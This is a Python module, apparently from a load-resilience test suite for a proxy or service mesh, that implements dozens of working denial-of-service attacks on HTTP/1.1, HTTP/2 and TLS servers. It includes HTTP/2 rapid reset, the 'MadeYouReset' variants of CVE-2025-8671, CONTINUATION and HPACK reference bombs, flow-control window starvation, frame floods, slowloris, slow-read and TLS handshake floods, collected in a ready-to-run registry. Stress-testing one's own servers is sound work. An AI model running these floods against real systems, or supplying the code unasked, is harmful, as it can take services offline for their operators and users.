"""What hostile clients do, one function each: attack(Target) → what it was answered. A flood is one connection after the
other, each of which goes on until it is ended; a siege is many connections that hold out."""
import socket
import ssl
import struct
import time

from frames import (ACK, CONTINUATION, DATA, END, END_HEADERS, GOAWAY, HEADERS, PADDED, PING, PREFACE, PRIORITY, RST, SETTINGS, WINDOW, Peer, field,
                    frame, number, request, settings)

BATCH = 100           # frames in one write
PAUSE = 0.004         # between two writes: the machine is not what is attacked
ENHANCE_YOUR_CALM = 11


class Target:
    def __init__(self, host, port, authority, seconds):
        self.host, self.port, self.authority = host, port, authority
        self.until = time.monotonic() + seconds

    def left(self):
        return self.until - time.monotonic()

    def get(self, path="/", method="GET", *more):
        return request(self.authority, path, method, *more)


def flood(target, first, make, peer_first=PREFACE + settings(), most=40_000, batch=BATCH, deaf=False):
    """`make(i)` gives the bytes of the i-th step."""
    result = {"connections": 0, "ended": 0, "slowest": 0.0, "steps": 0, "codes": []}
    while target.left() > 0:
        peer = Peer(target.host, target.port, peer_first + first, deaf=deaf)
        start, step = time.monotonic(), 0
        result["connections"] += 1
        while step < most and target.left() > -3:
            if not peer.send(b"".join(make(i) for i in range(step, step + batch))):
                break
            step += batch
            time.sleep(PAUSE)
        result["steps"] = max(result["steps"], step)
        if peer.wait(2):
            result["ended"] += 1
            result["slowest"] = max(result["slowest"], round(time.monotonic() - start, 2))
            if peer.goaway is not None and peer.goaway not in result["codes"]:
                result["codes"].append(peer.goaway)
        peer.close()
        if target.left() > 0:
            time.sleep(0.1)
    return result


def head(block, stream, end=True):
    return frame(HEADERS, END_HEADERS | (END if end else 0), stream, block)


def nth(i):
    return 2 * i + 1


# ---- Resets

def rapid_reset(t):
    get = t.get()
    return flood(t, b"", lambda i: head(get, nth(i)) + frame(RST, 0, nth(i), b"\0\0\0\x08"))


def late_reset(t):
    """Each request has left for its server when it is given up, in the write after its own."""
    get = t.get()
    return flood(t, b"", lambda i: head(get, nth(i)) + (frame(RST, 0, nth(i - BATCH), b"\0\0\0\x08") if i >= BATCH else b""))


def made_you_reset(break_rule, end=False, block=None):
    def attack(t):
        get = t.get() if block is None else t.get("/", "POST", *block)
        return flood(t, b"", lambda i: head(get, nth(i), end) + break_rule(nth(i)))
    return attack


def overflow(stream):
    return frame(WINDOW, 0, stream, b"\x7f\xff\xff\xff")


# ---- Header blocks

def continuation(t):
    """Never END_HEADERS."""
    return flood(t, frame(HEADERS, END, 1, t.get()), lambda i: frame(CONTINUATION, 0, 1, field("x", "y" * 100)), batch=10)


def empty_continuation(t):
    return flood(t, frame(HEADERS, END, 1, t.get()), lambda i: frame(CONTINUATION, 0, 1))


def slow_continuation(t):
    """A header block that begins and does not end."""
    return siege(t, 50, PREFACE + settings() + frame(HEADERS, END, 1, t.get()), lambda: frame(CONTINUATION, 0, 1, field("x", "y")), patience=4)


def slow_frame(t):
    """A HEADERS frame of which one byte comes now and then."""
    return siege(t, 50, PREFACE + settings() + frame(HEADERS, END | END_HEADERS, 1, t.get())[:12], lambda: b"\0", patience=4)


def hpack_bomb(t):
    """One field of 4,000 bytes in the table, then a reference to it in every byte of the blocks that follow."""
    big = field("x", "y" * 3900, 0x40)
    return flood(t, head(t.get() + big, 1), lambda i: head(t.get() + number(7, 0x80, 62) * 12_000, nth(i + 1)), batch=1)


def reference_bomb(t):
    """The same, with as many references as a head may have, and no window for the answer: what was decoded stays."""
    big = field("x", "y" * 3900, 0x40)
    block = t.get() + number(7, 0x80, 62) * 14
    peers = []
    while len(peers) < 4:
        peer = Peer(t.host, t.port, PREFACE + settings((4, 0)) + head(t.get() + big, 1))
        for i in range(1, 1000, 10):
            if not peer.send(b"".join(head(block, nth(j)) for j in range(i, i + 10))):
                break
            time.sleep(PAUSE)
        peers.append(peer)
    hold(t, peers)
    return {"connections": len(peers), "refused": sum(p.seen.get(RST, 0) for p in peers)}


def held_heads(t, connections=8):
    """Requests with heads of 55 kB, and of 4 kB where those find no more room, that nobody answers."""
    big, peers = field("x", "y" * 3900, 0x40), []
    for _ in range(connections):
        peers.append(Peer(t.host, t.port, PREFACE + settings() + head(t.get() + big, 1)))
        for i in range(1, 60):
            peers[-1].send(head(t.get() + number(7, 0x80, 62) * 14, nth(i)))
        for i in range(60, 90):
            peers[-1].send(head(t.get() + number(7, 0x80, 62), nth(i)))
    hold(t, peers)
    return {"connections": len(peers), "refused": sum(p.seen.get(RST, 0) for p in peers), "ended": sum(p.over() for p in peers)}


def empty_headers(t):
    return flood(t, b"", lambda i: head(b"", nth(i)))


def trailers_without_end(t):
    get = t.get("/", "POST")
    return flood(t, b"", lambda i: head(get, nth(i), False) + head(field("x", "y"), nth(i), False))


# ---- Frames that do no work

def ping(t):
    return flood(t, b"", lambda i: frame(PING, 0, 0, b"12345678"))


def deaf_ping(t):
    return flood(t, b"", lambda i: frame(PING, 0, 0, b"12345678"), deaf=True)


def empty_settings(t):
    return flood(t, b"", lambda i: settings())


def long_settings(t):
    """2,700 entries in each, while many streams are open on whose windows they work."""
    block = t.get("/", "POST")
    many = settings(*[(4, 65535 - i % 2) for i in range(2700)])
    return flood(t, b"".join(head(block, nth(i), False) for i in range(900)), lambda i: many, batch=5)


def priority(t):
    return flood(t, b"", lambda i: frame(PRIORITY, 0, 3, struct.pack(">IB", 0, 16)))


def window_update(t):
    return flood(t, b"", lambda i: frame(WINDOW, 0, 0, b"\0\0\0\1"))


def empty_data(t):
    return flood(t, head(t.get("/", "POST"), 1, False), lambda i: frame(DATA, 0, 1))


def padded_data(t):
    """DATA of nothing but padding."""
    return flood(t, head(t.get("/", "POST"), 1, False), lambda i: frame(DATA, PADDED, 1, b"\0"))


def unknown_frames(t):
    return flood(t, b"", lambda i: frame(0x42, 0, 0, b"x" * 20))


def settings_ack(t):
    return flood(t, b"", lambda i: frame(SETTINGS, ACK, 0))


# ---- Windows

def zero_window(t):
    """Large answers that may not leave."""
    return windows(t, 0, 4, 400)


def many_zero_windows(t):
    return windows(t, 0, 8, 400)


def one_byte_window(t):
    get = t.get()
    first = b"".join(head(get, nth(i)) for i in range(50))
    return flood(t, first, lambda i: b"".join(frame(WINDOW, 0, nth(j), b"\0\0\0\1") for j in range(50)), PREFACE + settings((4, 1)), batch=2)


def windows(t, size, connections, streams):
    get = t.get()
    peers = []
    for _ in range(connections):
        peer = Peer(t.host, t.port, PREFACE + settings((4, size)))
        for i in range(0, streams, 20):
            peer.send(b"".join(head(get, nth(j)) for j in range(i, i + 20)))
            time.sleep(2 * PAUSE)
        peers.append(peer)
    hold(t, peers)
    return {"connections": len(peers), "ended": sum(p.over() for p in peers)}


def hold(t, peers):
    while t.left() > 0:
        for peer in peers:
            peer.wait(min(0.1, max(t.left(), 0)))
    for peer in peers:
        peer.close()


def deaf(t):
    """Requests without end whose answers nobody reads."""
    get = t.get()
    result = {"connections": 4, "taken": 0}
    peers = [Peer(t.host, t.port, deaf=True, receive_buffer=4096) for _ in range(4)]
    step = 0
    while t.left() > 0:
        for peer in peers:
            peer.send(b"".join(head(get, nth(i)) for i in range(step, step + 25)), 0.05)
        step += 25
        time.sleep(3 * PAUSE)
    for peer in peers:
        peer.close()
    return result


# ---- Order of frames

def after_goaway(t):
    get = t.get()
    bye = frame(GOAWAY, 0, 0, struct.pack(">II", 0, 0))
    return flood(t, b"", lambda i: bye + head(get, nth(i)))


def data_with_reset(t):
    post = t.get("/", "POST")
    return flood(t, b"", lambda i: head(post, nth(i), False) + frame(DATA, 0, nth(i), b"x") + frame(RST, 0, nth(i), b"\0\0\0\x08") +
                 frame(DATA, 0, nth(i), b"y" * 100))


# ---- Connections

def siege(t, count, first, more=None, every=0.1, receive_buffer=0, read=65536, patience=0.0):
    """`count` connections that each send `first`, then `more()` now and then and read a little, for the time of the
    attack; those that somebody ought to end get `patience` seconds more."""
    result = {"connections": 0, "ended": 0, "slowest": 0.0}
    open_ones = []
    while result["connections"] < count and t.left() > 0:
        sock = socket.socket()
        if receive_buffer:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        sock.settimeout(2)
        try:
            sock.connect((t.host, t.port))
            sock.sendall(first)
        except OSError:
            pass
        sock.setblocking(False)
        open_ones.append((sock, time.monotonic()))
        result["connections"] += 1
        if result["connections"] % 10 == 0:
            time.sleep(2 * PAUSE)
    while open_ones and t.left() > -patience:
        for one in list(open_ones):
            sock, start = one
            try:
                if more:
                    sock.send(more())
                if sock.recv(read) == b"":
                    raise ConnectionError
            except BlockingIOError:
                continue
            except OSError:
                result["ended"] += 1
                result["slowest"] = max(result["slowest"], round(time.monotonic() - start, 2))
                sock.close()
                open_ones.remove(one)
        time.sleep(every)
    for sock, _ in open_ones:
        sock.close()
    return result


def slowloris_line(t):
    return siege(t, 150, b"GET /", lambda: b"a", patience=15)


def slowloris_headers(t):
    return siege(t, 150, f"GET / HTTP/1.1\r\nHost: {t.authority}\r\n".encode(), lambda: b"x: y\r\n", patience=4)


def slow_bodies(t, pause=0.2):
    """150 connections that send a body byte by byte: two thirds of the bodies end within the time, the others never. A
    body may come as slowly as it likes, for it may be a stream."""
    length, rounds = 6, int((t.left() - 0.5) / pause)
    socks, result = [], {"connections": 150, "answered": 0, "ended": 0}
    for i in range(150):
        sock = socket.create_connection((t.host, t.port), 5)
        sock.sendall(f"POST / HTTP/1.1\r\nHost: {t.authority}\r\nContent-Length: {length if i % 3 else 100_000}\r\n\r\n".encode())
        sock.setblocking(False)
        socks.append(sock)
    for n in range(rounds):
        for i, sock in enumerate(socks):
            if i % 3 == 0 or n < length:
                try:
                    sock.send(b"x")
                except OSError:
                    pass
        time.sleep(pause)
    for i, sock in enumerate(socks):
        try:
            got = sock.recv(1000)
        except BlockingIOError:
            got = None
        except OSError:
            got = b""
        result["ended"] += got == b""
        result["answered"] += bool(got) and got.startswith(b"HTTP/1.1 200 ") and got.endswith(b"ok")
        sock.close()
    return result


def many_hosts(t, count=50_000):
    """Requests that each name another host, path and user agent; twenty at once. Not bound in time."""
    result = {"connections": 1, "answered": 0}
    peer = Peer(t.host, t.port)
    for i in range(0, count, 20):
        block = [request(f"host-{j}.example.com", f"/{j}", "GET", ("user-agent", f"agent/{j}"), ("l5d-dst-override", f"svc-{j}:80")) for j in range(i, i + 20)]
        if not peer.send(b"".join(head(b, nth(i + j)) for j, b in enumerate(block)), 20) or not peer.wait(20, lambda: peer.ended >= i + 20):
            break
    result["answered"], result["goaway"] = peer.ended, peer.goaway
    peer.close()
    return result


def many_requests(t):
    """Sixty requests at once whose large answers may not leave, on ten connections."""
    get, peers = t.get(), []
    for _ in range(10):
        peers.append(Peer(t.host, t.port, PREFACE + settings((4, 0))))
        peers[-1].send(b"".join(head(get, nth(i)) for i in range(6)))
    hold(t, peers)
    refused = sum(p.ended for p in peers)
    return {"connections": 10, "open": 60 - refused, "refused": refused}


def many_connections(t):
    """As many connections as it can hold open at once."""
    socks, refused = [], 0
    for _ in range(60):
        sock = socket.create_connection((t.host, t.port), 5)
        sock.sendall(f"GET / HTTP/1.1\r\nHost: {t.authority}\r\n\r\n".encode())
        try:
            if sock.recv(1000).startswith(b"HTTP/1.1 200 "):
                socks.append(sock)
                continue
        except OSError:
            pass
        refused += 1
        sock.close()
    time.sleep(max(t.left(), 0))
    for sock in socks:
        sock.close()
    return {"connections": 60, "open": len(socks), "refused": refused}


def slow_read(t):
    return siege(t, 150, f"GET / HTTP/1.1\r\nHost: {t.authority}\r\n\r\n".encode(), receive_buffer=4096, read=1)


def half_open(t):
    return siege(t, 300, b"")


def connection_flood(t):
    result = {"connections": 0}
    while t.left() > 0:
        for _ in range(10):
            try:
                with socket.create_connection((t.host, t.port), 2) as sock:
                    sock.sendall(b"GET / HT")
                result["connections"] += 1
            except OSError:
                pass
        time.sleep(0.02)
    return result


def first_words(t):
    """What a connection may begin with."""
    return [f"GET / HTTP/1.1\r\nHost: {t.authority}\r\nConnection: close\r\n\r\n".encode(), PREFACE + settings() + head(t.get(), 1),
            client_hello(t.authority), b"\r\n\0 no HTTP\r\n"]


def broken_connections(t, first, count):
    """One after the other, each with the same words; not bound in time."""
    words, result = first_words(t)[first], {"connections": 0}
    for _ in range(count):
        try:
            with socket.create_connection((t.host, t.port), 5) as sock:
                sock.sendall(words)
                sock.settimeout(5)
                sock.recv(1000)
        except OSError:
            pass
        result["connections"] += 1
    return result


def oversize_head(t):
    """Header fields without end."""
    return flood(t, f"GET / HTTP/1.1\r\nHost: {t.authority}\r\n".encode(), lambda i: b"x-%d: " % i + b"y" * 100 + b"\r\n", b"")


# ---- TLS, towards the name that the mesh uses

def client_hello(name):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    out = ssl.MemoryBIO()
    try:
        context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def handshake_flood(t):
    """Handshakes that the server pays for and the client leaves."""
    hello, result = client_hello(t.authority), {"connections": 0, "answered": 0}
    while t.left() > 0:
        for _ in range(2):
            with socket.create_connection((t.host, t.port), 2) as sock:
                sock.sendall(hello)
                sock.settimeout(1)
                result["connections"] += 1
                try:
                    result["answered"] += bool(sock.recv(1))
                except OSError:
                    pass
        time.sleep(0.02)
    return result


def half_handshakes(t):
    """A ClientHello and then nothing."""
    return siege(t, 200, client_hello(t.authority), patience=4)


def slow_hello(t):
    hello = client_hello(t.authority)
    return siege(t, 100, hello[:40], lambda: b"\0")


ATTACKS = {f.__name__: f for f in (
    rapid_reset, late_reset, continuation, empty_continuation, slow_continuation, slow_frame, hpack_bomb, reference_bomb, held_heads, empty_headers, trailers_without_end,
    ping, deaf_ping, empty_settings, long_settings, priority, window_update, empty_data, padded_data, unknown_frames, settings_ack, zero_window,
    many_zero_windows, one_byte_window, deaf, after_goaway, data_with_reset, slowloris_line, slowloris_headers, slow_bodies, slow_read, half_open,
    connection_flood, broken_connections, oversize_head, handshake_flood, half_handshakes, slow_hello, many_hosts, many_requests,
    many_connections)}
# The six ways to make the server reset a stream (CVE-2025-8671).
ATTACKS |= {
    "made_reset_window_of_zero": made_you_reset(lambda s: frame(WINDOW, 0, s, b"\0\0\0\0")),
    "made_reset_window_too_large": made_you_reset(overflow),
    "made_reset_window_too_large_at_end": made_you_reset(overflow, end=True),
    "made_reset_body_too_long": made_you_reset(lambda s: frame(DATA, 0, s, b"xy"), block=[("content-length", "1")]),
    "made_reset_data_after_end": made_you_reset(lambda s: frame(DATA, 0, s, b"x"), end=True),
    "made_reset_headers_after_end": made_you_reset(lambda s: head(field("x", "y"), s), end=True),
    "made_reset_own_dependency": made_you_reset(lambda s: frame(PRIORITY, 0, s, struct.pack(">IB", s, 16))),
    "made_reset_short_priority": made_you_reset(lambda s: frame(PRIORITY, 0, s, b"1234")),
}
